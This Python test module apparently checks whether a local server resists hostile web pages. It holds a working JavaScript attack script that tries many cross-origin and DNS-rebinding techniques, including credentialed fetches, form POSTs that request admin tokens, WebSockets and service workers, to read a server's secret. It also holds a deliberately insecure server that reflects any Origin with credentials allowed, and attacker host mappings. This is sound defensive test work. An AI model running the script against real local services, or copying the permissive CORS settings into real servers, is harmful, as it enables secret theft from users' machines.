"""What a hostile web page does to a server on the visitor's machine, and a server that lets it."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

SECRET = "secret of the server"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SCRIPT = b"self.stolen = 'script'"

ATTACK = """
(async (target, image, script, name) => {
  const found = {};
  const attempt = async (what, work) => {
    const late = new Promise(done => setTimeout(done, 15000, 'nothing'));
    try { found[what] = String(await Promise.race([work(), late])); } catch { found[what] = 'nothing'; }
  };
  const element = (tag, fields) => new Promise(done => {
    const made = Object.assign(document.createElement(tag), fields);
    made.onload = () => done(made.naturalWidth || tag);
    made.onerror = () => done('nothing');
    document.body.append(made);
  });
  const ask = async (path, options) => (await fetch(target + path, options)).text();
  const seen = async text => (await text) || 'nothing';
  const body = JSON.stringify({name: 'thief', scopes: ['admin']});
  const send = {method: 'POST', headers: {'Content-Type': 'text/plain'}, body};
  const socket = (host, protocol) => new Promise(done => {
    const made = new WebSocket(host.replace('http', 'ws') + '/ws', protocol);
    made.onmessage = event => { done(event.data); made.close(); };
    made.onerror = made.onclose = () => done('nothing');
  });
  const alias = host => target.replace('127.0.0.1', host);
  await Promise.all([
    attempt('fetch', () => seen(ask('/health'))),
    attempt('fetch with credentials', () => seen(ask('/status', {credentials: 'include'}))),
    attempt('fetch without CORS', () => seen(ask('/health', {mode: 'no-cors'}))),
    attempt('fetch of a blob', () => seen(ask('/blobs/' + image))),
    attempt('POST', () => seen(ask('/tokens', send))),
    attempt('POST without CORS', () => seen(ask('/tokens', {...send, mode: 'no-cors'}))),
    attempt('PUT', () => seen(ask('/blobs/' + name, {method: 'PUT', body: 'x'}))),
    attempt('DELETE', () => seen(ask('/tokens/local', {method: 'DELETE'}))),
    attempt('guessed token', () => seen(ask('/status', {headers: {Authorization: 'Bearer guess'}}))),
    attempt('beacon', () => { navigator.sendBeacon(target + '/tokens', body); return 'nothing'; }),
    attempt('form', async () => {
      const form = document.createElement('form');
      form.append(Object.assign(document.createElement('input'), {name: body.slice(0, -1), value: '}'}));
      const frame = Object.assign(document.createElement('iframe'), {name: 'answer'});
      const loaded = new Promise(done => { frame.onload = () => setTimeout(done, 200); });
      document.body.append(frame, form);
      Object.assign(form, {method: 'POST', enctype: 'text/plain', target: 'answer'});
      form.action = target + '/tokens';
      form.submit();
      await loaded;
      return frame.contentDocument ? frame.contentDocument.body.textContent || 'nothing' : 'nothing';
    }),
    attempt('image', () => element('img', {src: target + '/blobs/' + image})),
    attempt('script', () => element('script', {src: target + '/blobs/' + script})),
    attempt('style', () => element('link', {rel: 'stylesheet', href: target + '/health'})),
    attempt('events', () => new Promise(done => {
      const made = new EventSource(target + '/status', {withCredentials: true});
      made.onmessage = event => { done(event.data); made.close(); };
      made.onerror = () => { done('nothing'); made.close(); };
    })),
    attempt('socket', () => socket(target, 'bridge.v1.json')),
    attempt('socket without subprotocol', () => socket(target)),
    attempt('socket at localhost', () => socket(alias('localhost'), 'bridge.v1.json')),
    attempt('socket at 0.0.0.0', () => socket(alias('0.0.0.0'), 'bridge.v1.json')),
    attempt('fetch at 0.0.0.0', async () => seen((await fetch(alias('0.0.0.0') + '/health')).text())),
    attempt('worker', () => new Promise((done, fail) => {
      const made = new Worker(target + '/blobs/' + script);
      made.onerror = fail;
      setTimeout(done, 1000, 'worker');
    })),
    attempt('service worker', async () => {
      await navigator.serviceWorker.register(target + '/blobs/' + script);
      return 'service worker';
    }),
  ]);
  return found;
})
"""
"""Returns what each attack has read, by its name; `nothing` for what the browser keeps from the page."""


def attack(target: str, image: str, script: str, upload: str) -> str:
    """The script that a page at any origin runs against `target`, with the names of two blobs and an
    upload."""
    return f"({ATTACK.strip()})({', '.join(map(json.dumps, (target, image, script, upload)))})"


class Careless(BaseHTTPRequestHandler):
    """Answers everybody, as the servers of the named vulnerabilities did."""

    protocol_version = "HTTP/1.1"
    heard: ClassVar[list[tuple[str, str]]] = []
    opened: ClassVar[list[socket.socket]] = []
    image = ""
    script = ""

    def setup(self) -> None:
        type(self).opened.append(self.request)
        super().setup()

    def do_GET(self) -> None:
        self._note()
        if self.headers.get("Upgrade", "").lower() == "websocket":
            self._open_socket()
        elif self.path.endswith(self.image or "\0"):
            self._answer(PIXEL, "image/png")
        elif self.path.endswith(self.script or "\0"):
            self._answer(SCRIPT, "text/javascript")
        elif "text/event-stream" in self.headers.get("Accept", ""):
            self._answer(f"data: {SECRET}\n\n".encode(), "text/event-stream")
        elif "text/css" in self.headers.get("Accept", ""):
            self._answer(b"", "text/css")
        else:
            self._answer(SECRET.encode(), "text/html")

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self._note()
        self._answer(SECRET.encode(), "text/plain")

    do_PUT = do_DELETE = do_OPTIONS = do_POST

    def log_message(self, format: str, *args: Any) -> None:
        """Says nothing."""

    def _note(self) -> None:
        type(self).heard.append((self.command, self.path))

    def _answer(self, body: bytes, media: str) -> None:
        self.send_response(200)
        # A rebound name must not meet this server again.
        self.send_header("Connection", "close")
        self.send_header("Content-Type", media)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
        self.send_header("Access-Control-Allow-Credentials", "true")
        self.send_header("Access-Control-Allow-Methods", "PUT, DELETE")
        self.send_header("Access-Control-Allow-Headers", "Authorization")
        self.end_headers()
        self.wfile.write(body)

    def _open_socket(self) -> None:
        key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        accept = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
        self.send_response(101)
        for name, value in (
            ("Upgrade", "websocket"),
            ("Connection", "Upgrade"),
            ("Sec-WebSocket-Accept", accept),
        ):
            self.send_header(name, value)
        if wanted := self.headers.get("Sec-WebSocket-Protocol"):
            self.send_header("Sec-WebSocket-Protocol", wanted)
        self.end_headers()
        self.wfile.write(b"\x81" + bytes([len(SECRET)]) + SECRET.encode())
        self.rfile.read(1)
        self.close_connection = True


@contextlib.contextmanager
def careless_server(
    listener: socket.socket | None = None, image: str = "", script: str = ""
) -> Iterator[tuple[int, list[tuple[str, str]]]]:
    """Yields the port of a server that answers everybody, and the requests that it has had.

    With `listener`, which stays open, another server can take its place.
    """
    handler = type("Own", (Careless,), {"heard": [], "opened": [], "image": image, "script": script})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler, bind_and_activate=listener is None)
    if listener is not None:
        server.socket.close()
        server.socket = listener.dup()
        server.server_address = listener.getsockname()
        server.server_port = listener.getsockname()[1]
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield server.server_port, handler.heard  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
        # Browsers open spare connections, which must not meet it again either.
        for each in handler.opened:  # type: ignore[attr-defined]
            with contextlib.suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)


RESOLVES = "MAP evil.test 127.0.0.1, MAP *.evil.test 127.0.0.1, MAP 127.evil.com 127.0.0.1"
"""The attacker's names, which lead to the visitor's own machine (`--host-resolver-rules`)."""
